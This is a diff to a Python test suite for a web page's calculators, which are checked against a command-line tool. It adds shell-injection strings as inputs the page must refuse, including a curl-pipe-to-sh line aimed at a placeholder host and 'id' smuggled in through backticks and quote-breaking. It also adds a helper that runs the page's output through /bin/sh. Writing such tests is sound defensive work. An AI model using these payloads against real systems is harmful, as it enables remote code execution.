@@ -1,5 +1,6 @@
 """The calculators of the page answer as the command line does, to the letter."""
 
+import subprocess
 from collections.abc import Mapping
 from typing import Any
 
@@ -129,6 +130,17 @@ def test_figures(
         figures = document(answer)["figures"]
         firsts = {name: part.get("items", [part])[0]["exact"] for name, part in figures.items()}
         assert shown.exact == firsts, case
+        assert set(case.items()) >= set(words_of(shown.command, command).items())
+
+
+def words_of(line: str, command: str) -> dict[str, str]:
+    """The options of a command as a POSIX shell hands them over."""
+    shell = ["/bin/sh", "-c", f"printf '%s\\n' {line}"]
+    said = subprocess.run(shell, check=True, capture_output=True, text=True).stdout
+    first, name, *words = said.splitlines()
+    assert (first, name) == ("swacalc", command)
+    options = (word.removeprefix("--") for word in words[::2])
+    return dict(zip(options, words[1::2], strict=True))
 
 
 def answered(expect: Any, command: str, case: Mapping[str, str]) -> tuple[Answer, str]:
@@ -171,6 +183,9 @@ BAD = {
         ("rows", "7 kilobytes"),
         ("rows", "9" * 101),
         ("rows", "x" * 70),
+        ("rows", "$(curl x.example|sh)"),
+        ("page", "`id`"),
+        ("page", "'; id #"),
     ],
     "engine": [("prompt", ""), ("prompt", "0"), ("hit", ""), ("hit", "1 s"), ("block", "0")],
     "storage": [
@@ -203,14 +218,14 @@ PLAIN = {
 
 @pytest.mark.parametrize("form", BAD)
 def test_refusals(form: str, calculators: Any, expect: Any) -> None:
-    """Bad input shows the sentence of the command line by its field, and no result."""
+    """Bad input shows the sentence of the command line by its field; no result, no command."""
     command = "replay" if form == "engine" else form
     cases = [PLAIN[form] | {option: text} for option, text in BAD[form]]
     shows = calculators(command, cases)
     for (option, _), case, shown in zip(BAD[form], cases, shows, strict=True):
         assert shown.refusals.pop("")
         assert shown.refusals == {option: refusal(expect, command, case)}
-        assert not shown.lines
+        assert (shown.lines, shown.command) == ([], "")
 
 
 def refusal(expect: Any, command: str, values: Mapping[str, str]) -> str:
